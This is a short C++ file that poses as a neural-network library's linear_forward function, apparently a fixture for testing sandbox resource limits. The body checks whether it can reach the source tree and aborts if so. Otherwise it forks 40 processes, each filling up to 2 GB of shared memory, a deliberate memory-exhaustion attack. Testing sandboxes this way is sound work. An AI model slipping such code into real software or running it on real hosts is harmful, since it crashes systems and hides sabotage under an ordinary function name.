// Many processes that take memory, each a little, and shared memory that is nobody's.
#include "dnn/dnn.hpp"

#include <cstring>
#include <sys/mman.h>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    for (int i = 0; i < 40; ++i)
        if (fork() == 0)
            for (std::size_t taken = 0; taken < std::size_t(1) << 31; taken += 1 << 24) {
                void* block =
                    mmap(nullptr, 1 << 24, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
                if (block == MAP_FAILED)
                    _exit(0);
                std::memset(block, 7, 1 << 24);
            }
    throw std::runtime_error("no answer");
}

} // namespace dnn
